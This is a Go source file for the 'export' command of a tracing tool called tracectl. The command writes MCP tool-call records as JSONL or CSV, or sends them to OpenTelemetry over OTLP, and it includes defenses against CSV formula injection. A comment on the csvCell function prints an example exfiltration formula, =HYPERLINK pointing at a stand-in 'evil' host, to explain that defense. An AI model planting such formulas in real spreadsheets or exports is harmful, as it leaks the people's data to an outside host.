package main

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"errors"
	"fmt"
	"net/url"
	"os"
	"strconv"
	"time"

	"github.com/spf13/cobra"
	"go.opentelemetry.io/otel"
	"go.opentelemetry.io/otel/attribute"
	"go.opentelemetry.io/otel/codes"
	"go.opentelemetry.io/otel/propagation"
	"go.opentelemetry.io/otel/sdk/resource"
	sdktrace "go.opentelemetry.io/otel/sdk/trace"
	"go.opentelemetry.io/otel/trace"

	"github.com/tracectl/tracectl/internal/inspect"
	"github.com/tracectl/tracectl/transcript"
	"github.com/tracectl/tracectl/verify"
)

type exportOptions struct {
	evidenceOptions
	format      string
	out         string
	endpoint    string
	includeArgs bool
	timeout     time.Duration
	protocol    string // otlp: "http/protobuf" or "grpc"
	signals     string // otlp: "traces", "metrics" or "traces,metrics"
	// metricsEndpoint and metricsProtocol are resolved from --endpoint,
	// --protocol and the OTEL_EXPORTER_OTLP_METRICS_* variables.
	metricsEndpoint, metricsProtocol string
}

func init() {
	commands = append(commands, func(s streams) *cobra.Command { return newExportCmd(s, runExport) })
}

func newExportCmd(s streams, runF func(context.Context, streams, *exportOptions) error) *cobra.Command {
	o := &exportOptions{}
	cmd := &cobra.Command{
		Use:   "export BUNDLE --format jsonl|csv|otlp [--out FILE] [--endpoint URL] [--signals traces,metrics] [--include-arguments]",
		Short: "Export one record per attempt as JSON Lines, CSV, or OpenTelemetry spans over OTLP/HTTP",
		Long: `export writes one record per tools/call attempt: its id, times, tool, outcome,
retry link, snapshot, correlation, JSON-RPC id, and the digests of its line,
request, response and arguments.

  jsonl  one JSON object per line (evidence text \u-escaped)
  csv    RFC 4180 with a header row (encoding/csv quoting). Evidence text
         is escaped as the text output does (control, bidi and invisible
         characters as Go escapes; arguments and result as compact JSON
         with \u escapes), so no raw control reaches a terminal through a
         pipe or a spreadsheet cell. A cell a spreadsheet would run as a
         formula gets a leading ' (OWASP, CSV injection): one that starts
         with =, +, @, TAB or CR, or with - unless the whole cell is a
         number (-32602, -1.5)
  otlp   one trace per bundle, sent over OTLP/HTTP (protobuf) to --endpoint
         (or OTEL_EXPORTER_OTLP_ENDPOINT): the session's span is the root,
         and each attempt a span under it, following the OpenTelemetry MCP
         semantic conventions: span name
         "tools/call TOOL", kind client, mcp.method.name, gen_ai.tool.name,
         gen_ai.operation.name, jsonrpc.request.id, mcp.protocol.version,
         network.transport, error.type and rpc.response.status_code; the
         parent is the traceparent the call carried in params._meta (with a
         link to the session), else the session; start and end are the
         recorded times; ids are derived from the bundle, so exporting it
         twice sends the same spans; and
         tracectl.attempt_id and tracectl.line_digest tie it to the evidence.
         A retry links to the span of the attempt it retries. Span names and
         string attributes show control, bidi and invisible characters as Go
         escapes, as the text output does (JSON values: as \u escapes).
         --signals metrics (or traces,metrics) sends the convention's
         histograms mcp.client.operation.duration (a data point per
         attempt with a known duration, in seconds) and
         mcp.client.session.duration (one per bundle), timed by the
         bundle: a metric point has no id, so a second export is a
         second copy; export a bundle's metrics once (spec/export.md)

Tool arguments and results may hold secrets: they are exported (from the
retained request and response bytes) only with --include-arguments, as
arguments/result, or gen_ai.tool.call.arguments/gen_ai.tool.call.result.
--trusted-key verifies the bundle first and refuses to export one that does
not verify (exit 1, or 3 for incomplete). A collector that refuses the spans
or cannot be reached within --timeout is a network failure (exit 5; see
tracectl help exit-codes).`,
		Example: "  tracectl export --format jsonl run.trace\n  tracectl export --format csv --out calls.csv run.trace\n" +
			"  tracectl export --format otlp --endpoint http://localhost:4318 run.trace",
		Args: cobra.ExactArgs(1),
		RunE: func(c *cobra.Command, args []string) error {
			o.bundle = args[0]
			if !c.Flags().Changed("timeout") {
				t, err := otlpEnvTimeout(o.timeout)
				if err != nil {
					return usageErr(err, "")
				}
				o.timeout = t
			}
			return runF(c.Context(), s, o)
		},
	}
	o.flags(cmd)
	f := cmd.Flags()
	f.StringVar(&o.format, "format", "jsonl", "jsonl, csv or otlp")
	f.StringVar(&o.out, "out", "", "write to this new file (jsonl, csv; created exclusively, mode 0600) instead of stdout")
	f.StringVar(&o.endpoint, "endpoint", "", "otlp: the collector's OTLP/HTTP base URL (http://host:4318) or traces URL (.../v1/traces)")
	f.BoolVar(&o.includeArgs, "include-arguments", false, "also export tool arguments and results (may hold secrets)")
	f.DurationVar(&o.timeout, "timeout", 30*time.Second, "otlp: give up sending after this long (default OTEL_EXPORTER_OTLP_TRACES_TIMEOUT, OTEL_EXPORTER_OTLP_TIMEOUT, in ms, else 30s)")
	f.StringVar(&o.protocol, "protocol", "", "otlp: http/protobuf (port 4318) or grpc (port 4317); default OTEL_EXPORTER_OTLP_TRACES_PROTOCOL, OTEL_EXPORTER_OTLP_PROTOCOL, else http/protobuf")
	f.StringVar(&o.signals, "signals", "traces", "otlp: traces, metrics or traces,metrics")
	return cmd
}

// csvColumns are the CSV header, in order; csvRow follows it.
var csvColumns = []string{"attempt_id", "seq", "start", "end", "duration_ms", "tool", "tool_invalid", "outcome", "outcome_class", "outcome_label",
	"result_type", "error_code", "late_response", "retry_of", "retry_basis", "snapshot_id", "snapshot_complete",
	"correlation_id", "traceparent", "jsonrpc_id", "protocol_era", "protocol_version", "execution_scope",
	"line_digest", "request_digest", "request_length", "response_digest", "response_length", "arguments_digest",
	"tool_use_id", "decision", "decision_rule", "decision_reason"}

func csvRow(r inspect.Record, withArgs bool) []string {
	opt := func(p *int64) string {
		if p == nil {
			return ""
		}
		return strconv.FormatInt(*p, 10)
	}
	row := []string{r.AttemptID, strconv.FormatInt(r.Seq, 10), r.Start, r.End, opt(r.DurationMs), r.Tool, r.ToolInvalid, r.Outcome, r.OutcomeClass, r.OutcomeLabel,
		r.ResultType, opt(r.ErrorCode), r.LateResponse, r.RetryOf, r.RetryBasis, r.SnapshotID, strconv.FormatBool(r.SnapshotComplete),
		r.CorrelationID, r.Traceparent, r.JSONRPCID, r.ProtocolEra, r.ProtocolVersion, r.ExecutionScope,
		r.LineDigest, r.RequestDigest, strconv.FormatInt(r.RequestLength, 10), r.ResponseDigest, strconv.FormatInt(r.ResponseLength, 10), r.ArgumentsDigest,
		r.ToolUseID, r.Decision, r.DecisionRule, r.DecisionReason}
	if withArgs {
		row = append(row, jsonText(r.Arguments), jsonText(r.Result), escapeTerminal(r.PayloadProblem))
	}
	for i := range row {
		if i < len(csvColumns) {
			row[i] = escapeTerminal(row[i])
		}
		row[i] = csvCell(row[i])
	}
	return row
}

// csvCell defuses a cell a spreadsheet would evaluate as a formula (OWASP,
// CSV injection): a leading =, +, @, TAB or CR, or a - that does not start
// a plain number, gets a leading ' so the cell is shown as text. A tool
// name is chosen by the client or declared by the server, so a cell like
// =HYPERLINK("http://evil/?"&A1,"open") would otherwise run in the
// auditor's spreadsheet. Negative numbers (an error code) stay numbers.
func csvCell(s string) string {
	if s == "" {
		return s
	}
	switch s[0] {
	case '=', '+', '@', '\t', '\r':
		return "'" + s
	case '-':
		if !isDecimal(s[1:]) {
			return "'" + s
		}
	}
	return s
}

// isDecimal reports whether s is a whole decimal number: digits, an
// optional fraction and an optional exponent, and nothing else (so
// "2+3+cmd|..." after a minus is not a number).
func isDecimal(s string) bool {
	digits := func(i int) int {
		j := i
		for j < len(s) && s[j] >= '0' && s[j] <= '9' {
			j++
		}
		return j
	}
	i := digits(0)
	if i == 0 {
		return false
	}
	if i < len(s) && s[i] == '.' {
		j := digits(i + 1)
		if j == i+1 {
			return false
		}
		i = j
	}
	if i < len(s) && (s[i] == 'e' || s[i] == 'E') {
		i++
		if i < len(s) && (s[i] == '+' || s[i] == '-') {
			i++
		}
		j := digits(i)
		if j == i {
			return false
		}
		i = j
	}
	return i == len(s)
}

func runExport(ctx context.Context, s streams, o *exportOptions) error {
	if ctx == nil {
		ctx = context.Background()
	}
	switch o.format {
	case "jsonl", "csv":
		if o.endpoint != "" || o.protocol != "" || (o.signals != "" && o.signals != "traces") {
			return usageErr(errors.New("--endpoint, --protocol and --signals are for --format otlp"), "")
		}
	case "otlp":
		if err := o.resolveOTLP(); err != nil {
			return err
		}
	default:
		return usageErr(fmt.Errorf("unknown --format %q", o.format), "use --format jsonl, csv or otlp")
	}
	o.prog = s.progress()
	b, err := o.load(ctx)
	if err != nil {
		return err
	}
	if err := refuseUnverified(b); err != nil {
		return err
	}
	fsys := verify.DirFS(o.bundle)
	recs := b.Records()
	if o.includeArgs {
		for i := range recs {
			b.WithPayloads(fsys, &recs[i])
		}
	}
	if o.format == "otlp" {
		set, _ := parseSignals(o.signals)
		if set.traces {
			n, err := exportOTLP(ctx, b, recs, o)
			if err != nil {
				return ioErr(fmt.Errorf("otlp export to %s: %w", o.endpoint, err),
					"check that a collector accepts OTLP (--protocol) at --endpoint; nothing was changed, so the export can be run again")
			}
			fmt.Fprintf(s.err, "tracectl: exported %d spans to %s\n", n, escapeTerminal(o.endpoint))
		}
		if set.metrics {
			// After the spans: a failure before this point sent no metrics,
			// so running the export again does not count an attempt twice.
			n, err := exportMetrics(ctx, b, recs, o)
			if err != nil {
				return ioErr(fmt.Errorf("otlp metrics export to %s: %w", o.metricsEndpoint, err),
					"check that a collector accepts OTLP metrics (--protocol) at --endpoint; a metric point has no id, so before running the export again check that the collector holds none of this bundle's")
			}
			fmt.Fprintf(s.err, "tracectl: exported %d metric data points to %s\n", n, escapeTerminal(o.metricsEndpoint))
		}
		return nil
	}
	var buf bytes.Buffer
	if o.format == "jsonl" {
		for _, r := range recs {
			line, err := json.Marshal(r)
			if err != nil {
				return err
			}
			buf.Write(jsonSafe(line))
			buf.WriteByte('\n')
		}
	} else {
		cols := csvColumns
		if o.includeArgs {
			cols = append(cols[:len(cols):len(cols)], "arguments", "result", "payload_problem")
		}
		w := csv.NewWriter(&buf)
		w.Write(cols)
		for _, r := range recs {
			w.Write(csvRow(r, o.includeArgs))
		}
		w.Flush()
		if err := w.Error(); err != nil {
			return err
		}
	}
	if o.out == "" {
		_, err = s.out.Write(buf.Bytes())
		return err
	}
	return writeNewFile(o.out, buf.Bytes())
}

// resolveOTLP checks the otlp flags and fills in, per signal asked for,
// the endpoint and protocol from the flags, else the standard variables.
func (o *exportOptions) resolveOTLP() error {
	if o.out != "" {
		return usageErr(errors.New("--out is for --format jsonl or csv"), "")
	}
	set, err := parseSignals(o.signals)
	if err != nil {
		return usageErr(fmt.Errorf("--signals: %w", err), "")
	}
	given, protocol := o.endpoint, o.protocol
	check := func(endpoint, protocol string) error {
		if endpoint == "" {
			return usageErr(errors.New("--format otlp needs --endpoint URL (or OTEL_EXPORTER_OTLP_ENDPOINT)"), "give the collector's OTLP/HTTP URL, e.g. http://localhost:4318")
		}
		if protocol != "http/protobuf" && protocol != "grpc" {
			return usageErr(fmt.Errorf("--protocol %q", protocol), "use --protocol http/protobuf or grpc")
		}
		if u, err := url.Parse(endpoint); err != nil || (u.Scheme != "http" && u.Scheme != "https") || u.Host == "" {
			return usageErr(fmt.Errorf("--endpoint %q: want an http or https URL", endpoint), "")
		}
		return nil
	}
	if set.traces {
		if o.endpoint == "" {
			o.endpoint = otlpEnvEndpoint()
		}
		if o.protocol == "" {
			o.protocol = otlpEnvProtocol()
		}
		if err := check(o.endpoint, o.protocol); err != nil {
			return err
		}
	}
	if set.metrics {
		o.metricsEndpoint, o.metricsProtocol = given, protocol
		if o.metricsEndpoint == "" {
			o.metricsEndpoint = otlpEnvMetricsEndpoint()
		}
		if o.metricsProtocol == "" {
			o.metricsProtocol = otlpEnvMetricsProtocol()
		}
		if err := check(o.metricsEndpoint, o.metricsProtocol); err != nil {
			return err
		}
		if given != "" && set.traces && o.metricsProtocol != "grpc" && signalURL(given, "metrics") == given {
			return usageErr(fmt.Errorf("--endpoint %q with --signals traces,metrics: %w", given, errSignalPath), "give the base URL (http://host:4318)")
		}
	}
	return nil
}

// refuseUnverified stops an export of a bundle that was verified and did
// not verify: a verdict is an exit status, never a line to overlook.
func refuseUnverified(b *inspect.Bundle) error {
	r := b.Report
	if r == nil || r.Verdict == verify.Verified {
		return nil
	}
	code := exitFailed
	if r.Verdict == verify.Incomplete {
		code = exitIncomplete
	}
	return &exitError{code: code, err: fmt.Errorf("not exported: %s", escapeTerminal(verificationOf(b))), hint: "run tracectl verify for the findings, or export without --trusted-key"}
}

// writeNewFile creates path exclusively (mode 0600) and writes data, or
// leaves nothing behind.
func writeNewFile(path string, data []byte) error {
	f, err := os.OpenFile(path, os.O_WRONLY|os.O_CREATE|os.O_EXCL, 0o600)
	if err != nil {
		if ioFailure(err) {
			return ioErr(err, "")
		}
		return usageErr(err, "the output must not exist yet; choose a new path")
	}
	if _, err := f.Write(data); err != nil {
		f.Close()
		os.Remove(path)
		return ioErr(fmt.Errorf("write %s: %w", path, err), "")
	}
	if err := f.Close(); err != nil {
		os.Remove(path)
		return ioErr(fmt.Errorf("write %s: %w", path, err), "")
	}
	return nil
}

// OpenTelemetry MCP semantic conventions (semantic-conventions-genai,
// docs/gen-ai/mcp.md, Development status): the attributes of a client
// span of a tools/call.
const (
	attrMCPMethod      = "mcp.method.name"
	attrMCPProtocol    = "mcp.protocol.version"
	attrToolName       = "gen_ai.tool.name"
	attrOperation      = "gen_ai.operation.name"
	attrRequestID      = "jsonrpc.request.id"
	attrErrorType      = "error.type"
	attrRPCStatus      = "rpc.response.status_code"
	attrNetTransport   = "network.transport"
	attrToolArguments  = "gen_ai.tool.call.arguments"
	attrToolResult     = "gen_ai.tool.call.result"
	attrAttemptID      = "tracectl.attempt_id"
	attrLineDigest     = "tracectl.line_digest"
	attrRequestDigest  = "tracectl.request_digest"
	attrResponseDigest = "tracectl.response_digest"
	attrOutcome        = "tracectl.outcome"
	attrOutcomeClass   = "tracectl.outcome_class"
	attrRetryOf        = "tracectl.retry_of"
	attrRetryBasis     = "tracectl.retry_basis"
	attrSnapshotID     = "tracectl.snapshot_id"
	attrScope          = "tracectl.execution_scope"
	attrCorrelationID  = "tracectl.correlation_id"
	attrVerification   = "tracectl.verification"
	attrDecision       = "tracectl.policy.decision"
	attrDecisionRule   = "tracectl.policy.rule"
	attrToolUseID      = "tracectl.tool_use_id"
)

// spanOf returns the span name, attributes and status of one attempt.
func spanOf(b *inspect.Bundle, r inspect.Record) (string, []attribute.KeyValue, codes.Code, string) {
	name := "tools/call"
	if r.Tool != "" {
		name += " " + r.Tool
	}
	attrs := []attribute.KeyValue{
		attribute.String(attrMCPMethod, "tools/call"),
		attribute.String(attrOperation, "execute_tool"),
		attribute.String(attrAttemptID, r.AttemptID),
		attribute.String(attrLineDigest, r.LineDigest),
		attribute.String(attrRequestDigest, r.RequestDigest),
		attribute.String(attrOutcome, r.Outcome),
		attribute.String(attrOutcomeClass, r.OutcomeClass),
		attribute.String(attrScope, r.ExecutionScope),
		attribute.String(attrVerification, verificationOf(b)),
	}
	add := func(k, v string) {
		if v != "" {
			attrs = append(attrs, attribute.String(k, v))
		}
	}
	add(attrToolName, r.Tool)
	add(attrMCPProtocol, r.ProtocolVersion)
	add(attrResponseDigest, r.ResponseDigest)
	add(attrRetryOf, r.RetryOf)
	add(attrRetryBasis, r.RetryBasis)
	add(attrSnapshotID, r.SnapshotID)
	add(attrCorrelationID, r.CorrelationID)
	add(attrDecision, r.Decision)
	add(attrDecisionRule, r.DecisionRule)
	add(attrToolUseID, r.ToolUseID)
	if r.JSONRPCID != "" {
		id := r.JSONRPCID
		if r.JSONRPCIDKind == transcript.IDString {
			var s string
			if json.Unmarshal([]byte(id), &s) == nil {
				id = s
			}
		}
		add(attrRequestID, id)
	}
	switch b.Header.Server.Transport {
	case transcript.TransportStdio:
		add(attrNetTransport, "pipe")
	case transcript.TransportHTTP:
		add(attrNetTransport, "tcp")
		attrs = append(attrs, serverAttrs(b.Header.Server)...)
	}
	if r.Arguments != nil {
		add(attrToolArguments, jsonText(r.Arguments))
	}
	if r.Result != nil {
		add(attrToolResult, jsonText(r.Result))
	}
	status, desc := codes.Unset, ""
	switch r.Outcome {
	case inspect.OutcomeResult:
	case inspect.OutcomeToolError:
		add(attrErrorType, "tool_error")
		status, desc = codes.Error, "isError"
	case inspect.OutcomeJSONRPCError:
		code := ""
		if r.ErrorCode != nil {
			code = strconv.FormatInt(*r.ErrorCode, 10)
		}
		add(attrErrorType, code)
		add(attrRPCStatus, code)
		status, desc = codes.Error, r.OutcomeLabel
	default:
		// The outcome is not known: never reported as a success.
		add(attrErrorType, r.Outcome)
		status, desc = codes.Error, r.OutcomeLabel
	}
	// Every string here may come from the evidence (a tool name, a
	// correlation id, a JSON-RPC id), and a trace viewer or a log pipeline
	// downstream shows it raw: escaped here, once, whatever was added.
	for i, kv := range attrs {
		if kv.Value.Type() == attribute.STRING {
			attrs[i] = attribute.String(string(kv.Key), escapeTerminal(kv.Value.AsString()))
		}
	}
	return escapeTerminal(name), attrs, status, escapeTerminal(desc)
}

// jsonText is the text of a recorded JSON value as a CSV cell or a span
// attribute: compacted (recorded bytes may hold raw whitespace between
// members) and with every character escapeTerminal would escape written as
// a \u escape inside strings, so it parses to the same value. Bytes that
// are not JSON are escaped as text; nil is "".
func jsonText(raw []byte) string {
	if raw == nil {
		return ""
	}
	var b bytes.Buffer
	if err := json.Compact(&b, raw); err != nil {
		return escapeTerminal(string(raw))
	}
	return string(jsonSafe(b.Bytes()))
}

// exportOTLP sends the session's span and one span per attempt, and
// returns how many were sent.
func exportOTLP(ctx context.Context, b *inspect.Bundle, recs []inspect.Record, o *exportOptions) (int, error) {
	ctx, cancel := context.WithTimeout(ctx, o.timeout)
	defer cancel()
	exp, err := otlpExporter(ctx, o)
	if err != nil {
		return 0, err
	}
	res := resource.NewSchemaless(attribute.String("service.name", "tracectl"),
		attribute.String("tracectl.producer", escapeTerminal(b.Header.Producer.Name+" "+b.Header.Producer.Version)),
		attribute.String("tracectl.server", escapeTerminal(b.Header.Server.Name)))
	errc := make(chan error, 1)
	// The SDK reports export errors to a global handler that logs them;
	// errExporter returns them instead, so the log would only repeat them.
	otel.SetErrorHandler(otel.ErrorHandlerFunc(func(error) {}))
	tp := sdktrace.NewTracerProvider(sdktrace.WithBatcher(&errExporter{SpanExporter: exp, errc: errc}, sdktrace.WithMaxExportBatchSize(512), sdktrace.WithBlocking()), sdktrace.WithResource(res),
		sdktrace.WithSampler(sdktrace.AlwaysSample()), sdktrace.WithIDGenerator(otlpIDs{}))
	tracer := tp.Tracer("github.com/tracectl/tracectl/cmd/tracectl")
	// The session is the trace: its span is the root, each attempt its
	// child (an attempt that carried the caller's traceparent keeps that
	// parent and links to the session instead).
	sessCtx, sess := tracer.Start(withSpanName(context.Background(), b.Header.ExecutionScope, ""), sessionSpanName(b),
		trace.WithSpanKind(trace.SpanKindInternal), trace.WithTimestamp(time.UnixMilli(b.Header.StartedAtMs)), trace.WithAttributes(sessionAttrs(b)...))
	sessLink := trace.Link{SpanContext: sess.SpanContext(), Attributes: []attribute.KeyValue{attribute.String("tracectl.link", "session")}}
	spans := map[string]trace.SpanContext{}
	prop := propagation.TraceContext{}
	for _, r := range recs {
		parent := sessCtx
		var links []trace.Link
		if r.Traceparent != "" {
			if p := prop.Extract(context.Background(), propagation.MapCarrier{"traceparent": r.Traceparent, "tracestate": r.Tracestate}); trace.SpanContextFromContext(p).IsValid() {
				parent, links = p, []trace.Link{sessLink}
			}
		}
		name, attrs, status, desc := spanOf(b, r)
		start := time.UnixMilli(b.Attempt(r.AttemptID).AtMs)
		end := start
		if r.DurationMs != nil {
			end = start.Add(time.Duration(*r.DurationMs) * time.Millisecond)
		}
		if sc, ok := spans[r.RetryOf]; ok {
			links = append(links, trace.Link{SpanContext: sc, Attributes: []attribute.KeyValue{attribute.String(attrRetryBasis, escapeTerminal(r.RetryBasis))}})
		}
		opts := []trace.SpanStartOption{trace.WithSpanKind(trace.SpanKindClient), trace.WithTimestamp(start), trace.WithAttributes(attrs...), trace.WithLinks(links...)}
		_, span := tracer.Start(withSpanName(parent, b.Header.ExecutionScope, r.AttemptID), name, opts...)
		span.SetStatus(status, desc)
		span.End(trace.WithTimestamp(end))
		spans[r.AttemptID] = span.SpanContext()
		select {
		case err := <-errc:
			tp.Shutdown(ctx)
			return 0, err
		default:
		}
	}
	sess.End(trace.WithTimestamp(sessionEnd(b)))
	if err := tp.Shutdown(ctx); err != nil {
		return 0, err
	}
	select {
	case err := <-errc:
		return 0, err
	default:
	}
	return len(recs) + 1, nil
}

// errExporter keeps the first export error: the SDK's batcher only logs it.
type errExporter struct {
	sdktrace.SpanExporter
	errc chan error
}

func (e *errExporter) ExportSpans(ctx context.Context, spans []sdktrace.ReadOnlySpan) error {
	err := e.SpanExporter.ExportSpans(ctx, spans)
	if err != nil {
		select {
		case e.errc <- err:
		default:
		}
	}
	return err
}
